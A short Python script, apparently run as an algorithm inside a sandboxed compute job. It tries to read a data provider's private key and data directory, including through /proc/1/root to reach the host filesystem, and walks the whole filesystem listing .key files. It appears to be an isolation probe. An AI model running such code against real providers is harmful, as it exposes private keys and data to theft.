# Hunts for Cove's data directory and the provider's key: by path, and anywhere it can look.
import json, os

params = json.load(open(os.path.join(os.environ["INPUTS"], "algoCustomData.json")))
for path in [params["key"], params["dataDir"], "/proc/1/root" + params["key"]]:
    try:
        print("SEEN", os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as e:
        print("not visible:", e.strerror)
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if root.startswith(("/proc", "/sys", "/usr")):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith(".key"):
            print("FOUND", os.path.join(root, name))
